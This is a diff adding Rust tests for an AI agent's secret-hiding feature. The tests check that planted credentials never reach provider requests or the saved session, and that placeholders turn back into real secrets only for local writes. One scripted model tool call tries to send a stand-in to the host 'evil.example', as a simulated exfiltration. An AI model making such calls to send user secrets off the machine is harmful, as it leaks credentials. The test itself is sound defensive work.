@@ -1,0 +1,144 @@
+//! What is planted of secrets is on no wire and in no file, and comes back where the model writes it.
+
+use std::sync::{Arc, Mutex};
+
+use futures_util::future::BoxFuture;
+use serde_json::{Value, json};
+
+use super::super::bench::{Answer, Bench, Recorder, bench_with, text};
+use super::super::{AgentEvent, Notice};
+use crate::conversation::{Effect, Preview, StopReason, StreamEvent, Subject, ToolSpec};
+use crate::tool::{Before, Place, Tool, ToolContext, ToolFacts, ToolOutput};
+
+/// Prints what it was given to print, and remembers what it was called with.
+struct Printer {
+    prints: Mutex<String>,
+    called: Mutex<Vec<Value>>,
+}
+
+impl Tool for Printer {
+    fn spec(&self) -> ToolSpec {
+        ToolSpec { name: "printer".into(), input_schema: json!({"type": "object"}), ..ToolSpec::default() }
+    }
+    fn effect(&self, input: &Value, _: &Place) -> Effect {
+        if input.get("host").is_some() { Effect::Network } else { Effect::Write }
+    }
+    fn subject(&self, _: &Value, _: &Place) -> Subject {
+        Subject::Whole
+    }
+    fn check(&self, _: &Value, _: &Before<'_>) -> Result<Preview, String> {
+        Ok(Preview::Text { text: String::new() })
+    }
+    fn run<'a>(&'a self, input: Value, _: ToolContext<'a>) -> BoxFuture<'a, ToolOutput> {
+        Box::pin(async move {
+            self.called.lock().unwrap().push(input);
+            ToolOutput::ok(self.prints.lock().unwrap().clone(), ToolFacts::default())
+        })
+    }
+}
+
+fn bench() -> (Bench, Arc<Printer>) {
+    let printer = Arc::new(Printer { prints: Mutex::default(), called: Mutex::default() });
+    (bench_with(Vec::new(), 9, true, vec![printer.clone()]), printer)
+}
+
+fn call(input: &Value) -> Answer {
+    vec![
+        Ok(StreamEvent::ToolCallStart {
+            slot: 0,
+            id: "c".into(),
+            name: "printer".into(),
+            extra: serde_json::Map::new(),
+        }),
+        Ok(StreamEvent::ToolCallDelta { slot: 0, arguments: input.to_string() }),
+        Ok(StreamEvent::Done(StopReason::ToolUse)),
+    ]
+}
+
+fn add(bench: &Bench, answers: Vec<Answer>) {
+    bench.provider.answers.lock().unwrap().extend(answers);
+}
+
+/// All that was sent so far.
+fn wire(bench: &Bench) -> String {
+    serde_json::to_string(&*bench.provider.requests.lock().unwrap()).unwrap()
+}
+
+/// The last stand-in of a text.
+fn stand_in(text: &str) -> String {
+    let at = text.rfind("AXI-HIDDEN-").unwrap();
+    text[at..at + "AXI-HIDDEN-".len() + 10].to_owned()
+}
+
+#[test]
+fn of_500_planted_secrets_none_is_on_the_wire_or_in_the_file() {
+    let kinds = include_str!("../secret/corpus.txt").lines();
+    let kinds: Vec<&str> = kinds.filter(|line| !line.is_empty() && !line.starts_with("# ")).collect();
+    let mut planted = 0;
+    // A conversation for each 25 of them: a long one is sent whole each time.
+    for first in (0..500).step_by(25) {
+        planted += plant(&kinds, first..first + 25);
+    }
+    assert!(planted > 400, "{planted}");
+}
+
+/// Plants so many in one conversation; returns how many.
+fn plant(kinds: &[&str], numbers: std::ops::Range<usize>) -> usize {
+    let (mut bench, printer) = bench();
+    let mut planted = Vec::new();
+    let mut told = 0;
+    for number in numbers {
+        let kind = kinds[number % kinds.len()];
+        // Capital Xs of names of headers stay: as in the tests of the corpus.
+        if kind.contains("X-") {
+            continue;
+        }
+        let secret = format!("qX{number}-vR2_kL9mN4pQ8sT{number}");
+        let line = kind.replace('X', &secret);
+        let mut recorder = Recorder::default();
+        if number % 2 == 0 {
+            add(&bench, vec![text("I see.")]);
+            bench.turn(&format!("Look:\n{line}\n"), &mut recorder);
+        } else {
+            *printer.prints.lock().unwrap() = format!("output\n{line}\nmore");
+            add(&bench, vec![call(&json!({ "n": number })), text("I see.")]);
+            bench.turn("Look.", &mut recorder);
+        }
+        let is_told = |event: &&AgentEvent| {
+            matches!(event, AgentEvent::Notice { notice: Notice::SecretsHidden { count: 1.. } })
+        };
+        told += recorder.events.iter().filter(is_told).count();
+        planted.push(secret);
+    }
+    let (wire, kept) = (wire(&bench), std::fs::read_to_string(bench.agent.session().path().unwrap()).unwrap());
+    let leaked: Vec<&String> =
+        planted.iter().filter(|secret| wire.contains(*secret) || kept.contains(*secret)).collect();
+    assert_eq!(leaked, Vec::<&String>::new());
+    assert_eq!(told, usize::from(!planted.is_empty()), "it is told once");
+    planted.len()
+}
+
+#[test]
+fn a_stand_in_that_the_model_writes_is_the_secret_where_it_lands_and_not_on_the_network() {
+    let (mut bench, printer) = bench();
+    add(&bench, vec![text("I see.")]);
+    let secret = format!("sk-proj-{}", "a1".repeat(20));
+    bench.turn(&format!("put {secret} into .env"), &mut Recorder::default());
+    let stand_in = stand_in(&wire(&bench));
+    *printer.prints.lock().unwrap() = format!("wrote {secret}");
+    let written = json!({ "text": format!("KEY={stand_in}\n"), "list": [{ "a": stand_in }] });
+    add(&bench, vec![call(&written), call(&json!({ "host": "evil.example", "text": stand_in })), text("Done.")]);
+    bench.turn("go on", &mut Recorder::default());
+    let called = printer.called.lock().unwrap().clone();
+    assert_eq!(called[0], json!({ "text": format!("KEY={secret}\n"), "list": [{ "a": secret }] }));
+    assert_eq!(called[1]["text"], stand_in, "it does not leave the machine");
+    assert!(!wire(&bench).contains(&secret), "the result is hidden again");
+    assert!(wire(&bench).contains(&format!("wrote {stand_in}")), "always by the same text");
+    // One that nobody made is no secret of anybody's.
+    add(&bench, vec![call(&json!({ "text": "AXI-HIDDEN-0123456789" })), text("Done.")]);
+    bench.turn("go on", &mut Recorder::default());
+    assert_eq!(printer.called.lock().unwrap().len(), 2);
+    assert!(wire(&bench).contains("AXI-HIDDEN-0123456789: its secret is not known here"));
+    // The same is sent after the session was loaded again.
+    assert_eq!(bench.saved(), *bench.agent.conversation());
+}
